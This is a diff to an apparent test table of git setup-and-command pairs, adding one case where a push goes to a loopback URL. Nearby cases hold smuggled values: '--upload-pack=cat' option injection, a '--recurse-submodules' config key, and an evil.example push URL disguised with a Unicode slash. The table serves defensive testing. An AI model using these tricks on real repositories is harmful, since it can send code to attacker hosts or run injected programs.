@@ -393,6 +393,7 @@ const ELSEWHERE: [prepare: string, command: string, where?: string][] = [
   ["git config 'remote.--recurse-submodules=yes.url' https://127.0.0.1:9/x", "git fetch --all"],
   ["git config branch.main.remote --upload-pack=cat", "git fetch"],
   [`git remote set-url origin ssh://github.com.${"x".repeat(190)}@127.0.0.1/x`, "git push"],
+  ["git remote set-url origin pass=git@127.0.0.1:x", "git push"],
   ["git remote set-url origin https://evil.example\u2215github.com/x", "git push"],
   [
     "git config core.repositoryformatversion 1; git config extensions.partialclone https://127.0.0.1:9/y",
